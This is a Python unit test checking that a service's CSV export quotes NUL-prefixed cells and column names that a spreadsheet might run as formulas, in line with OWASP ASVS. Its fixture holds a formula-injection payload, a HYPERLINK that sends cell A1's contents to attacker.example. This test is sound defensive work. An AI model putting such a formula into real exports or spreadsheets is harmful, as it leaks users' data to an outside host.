"""CSV the service writes (the portfolio download, ``greenrate batch rate``) quotes every text a spreadsheet
might run as a formula, the characters OWASP ASVS 5.0 V1.2.10 names included."""

from __future__ import annotations

import pyarrow as pa
import pyarrow.csv as pa_csv

from service.batch.writer import csv_safe


def test_a_cell_or_name_led_by_a_nul_is_quoted_like_any_formula() -> None:
    hostile = '\x00=HYPERLINK("http://attacker.example/?"&A1)'
    table = pa.table({"borrower_id": [hostile, "B-1"], "\x00@SUM(1)": ["x", "y"]})
    buffer = pa.BufferOutputStream()
    pa_csv.write_csv(csv_safe(table), buffer)
    lines = buffer.getvalue().to_pybytes().decode().splitlines()
    assert lines[0] == '"borrower_id","\'\x00@SUM(1)"'
    assert lines[1].startswith('"\'\x00=HYPERLINK(') and lines[2] == '"B-1","y"'
